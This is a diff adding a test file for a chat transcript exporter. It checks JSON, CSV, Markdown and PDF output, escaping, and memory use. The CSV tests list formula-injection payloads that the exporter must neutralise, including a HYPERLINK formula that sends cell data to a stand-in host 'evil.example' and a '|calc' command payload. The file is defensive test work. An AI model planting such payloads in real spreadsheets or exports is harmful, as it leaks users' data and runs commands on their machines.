@@ -1,0 +1,135 @@
+import { expect, test } from 'vitest';
+import { parseAddress, parseSessionId } from '#machines/ids.ts';
+import { cell } from '#src/exports/csv.ts';
+import { exportWriters } from '#src/exports/export-writers.ts';
+import { EXPORT_FORMATS, type ExportFormat } from '#src/operations/export-port.ts';
+import type { JournalEntry, SessionRow } from '#storage/port.ts';
+import { sessionRow } from '../http/fixture.ts';
+
+const session: SessionRow = {
+  ...sessionRow(0),
+  id: parseSessionId('01890a5d-ac96-774b-bcce-b302099a8001'),
+  address: parseAddress('web:default:v_1'),
+};
+
+function entry(seq: number, text: string | null, parts: Partial<JournalEntry> = {}): JournalEntry {
+  const at = 1_763_600_000_000 + seq;
+  const named = { kind: 'customer.message', author: 'customer', eventId: `m${seq}`, payload: {}, delivery: null };
+  return { sessionId: session.id, seq, at, text, ...named, ...parts };
+}
+
+async function* listed(entries: readonly JournalEntry[]): AsyncGenerator<JournalEntry> {
+  yield* entries;
+}
+
+async function written(format: ExportFormat, entries: readonly JournalEntry[]): Promise<Buffer> {
+  const parts: Buffer[] = [];
+  for await (const part of exportWriters[format].write(session, listed(entries))) parts.push(Buffer.from(part));
+  return Buffer.concat(parts);
+}
+
+/** Cells of RFC 4180. */
+function parsed(csv: string): string[][] {
+  const rows: string[][] = [[]];
+  for (const [, quoted, plain, end] of csv.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
+    rows.at(-1)?.push(quoted === undefined ? (plain ?? '') : quoted.replaceAll('""', '"'));
+    if (end === '\r\n') rows.push([]);
+  }
+  return rows.filter((row) => row.length > 1);
+}
+
+test('JSON is one document with the session and its entries', async () => {
+  const document = JSON.parse(String(await written('json', [entry(1, 'hello "you"'), entry(2, 'مرحبا')])));
+  expect(document.session).toMatchObject({ id: session.id, address: 'web:default:v_1' });
+  expect(document.entries.map(({ seq, text }: JournalEntry) => [seq, text])).toEqual([
+    [1, 'hello "you"'],
+    [2, 'مرحبا'],
+  ]);
+  expect(JSON.parse(String(await written('json', []))).entries).toEqual([]);
+});
+
+const FORMULAS = [
+  '=1+1',
+  '=HYPERLINK("http://evil.example/?"&A1,"click")',
+  '+1',
+  '-1',
+  '@SUM(A1)',
+  '\t=1',
+  '\r=1',
+  '\n=1',
+  '  =1',
+  '\u00a0=1',
+  '\ufeff=1',
+  '\u200b=1',
+  '＝1',
+  '|calc',
+  '%0A=1',
+];
+
+test.each(FORMULAS)('CSV makes text of %j', (text) => {
+  expect(parsed(`${cell(text)},\r\n`)[0]?.[0]).toBe(`'${text}`);
+});
+
+test('CSV has a row an entry, and keeps commas, quotes, lines and Arabic', async () => {
+  const texts = ['a, "b"\r\nc', 'مرحبا', ' spaced ', '', "it's = fine", ...FORMULAS];
+  const csv = String(
+    await written('csv', [...texts.map((text, index) => entry(index + 1, text)), entry(99, '=1', { author: '=1', eventId: '=1' })]),
+  );
+  expect(csv.startsWith('\ufeffseq,time,kind,author,text,delivery,eventId\r\n')).toBe(true);
+  const [, ...rows] = parsed(csv.slice(1));
+  expect(rows).toHaveLength(texts.length + 1);
+  expect(rows.slice(0, 5).map((row) => row[4])).toEqual(texts.slice(0, 5));
+  expect(rows.at(-1)).toEqual(['99', '2025-11-20T00:53:20.099Z', 'customer.message', "'=1", "'=1", '', "'=1"]);
+  for (const row of rows) for (const value of row.slice(2)) expect(value).not.toMatch(/^[\s\u200b\ufeff]*[=+\-@＝]/);
+});
+
+test('Markdown shows what was written and runs none of it', async () => {
+  const markdown = String(
+    await written('md', [entry(1, '# <b>hi</b>\n[x](http://a)'), entry(2, null), entry(3, 'ok', { kind: 'note', author: '**Eve**' })]),
+  );
+  expect(markdown).toContain(String.raw`> \# \<b\>hi\<\/b\>` + '\n' + String.raw`> \[x\]\(http\:\/\/a\)`);
+  expect(markdown).toContain(String.raw`**Note\, \*\*Eve\*\***`);
+  expect(markdown.match(/^\*\*/gm)).toHaveLength(2);
+});
+
+test('a PDF of a long conversation is read back, with Arabic in its order', async () => {
+  const { extractText, getDocumentProxy } = await import('unpdf');
+  const entries = Array.from({ length: 120 }, (_, index) => entry(index + 1, index % 2 ? `message ${index}` : 'مرحبا بكم في القاهرة'));
+  const pdf = await getDocumentProxy(new Uint8Array(await written('pdf', entries)));
+  const { totalPages, text } = await extractText(pdf, { mergePages: true });
+  expect(totalPages).toBeGreaterThan(3);
+  for (const seq of [1, 61, 119]) expect(text).toContain(`message ${seq}`);
+  expect(text.match(/مرحبا/g)?.length).toBe(60);
+});
+
+/** What a writer holds is measured after a collection, at many points of the way. */
+test.each(EXPORT_FORMATS)(
+  '%s of 50,000 entries holds no more than of 2,000',
+  async (format) => {
+    const { setFlagsFromString } = await import('node:v8');
+    const { runInNewContext } = await import('node:vm');
+    setFlagsFromString('--expose-gc');
+    const collect: () => void = runInNewContext('gc');
+    const length = Number(process.env['EXPORT_ENTRIES'] ?? (format === 'pdf' ? 1_000 : 50_000));
+    let made = 0;
+    async function* many(): AsyncGenerator<JournalEntry> {
+      for (made = 1; made <= length; made += 1) yield entry(made, `message ${made} `.repeat(20), { payload: { filler: 'x'.repeat(500) } });
+    }
+    const held: number[] = [];
+    let bytes = 0;
+    let nextAt = length / 25;
+    for await (const part of exportWriters[format].write(session, many())) {
+      bytes += part.length;
+      if (made < nextAt) continue;
+      nextAt += length / 25;
+      collect();
+      held.push(process.memoryUsage().heapUsed + process.memoryUsage().external);
+    }
+    expect(bytes).toBeGreaterThan(length * 50);
+    const [first = 0] = held;
+    expect(held.length).toBeGreaterThan(20);
+    // All entries are some 40 MB. What grows with the pages of a PDF is its table of them.
+    expect(Math.max(...held) - first).toBeLessThan(format === 'pdf' ? 12_000_000 : 3_000_000);
+  },
+  180_000,
+);
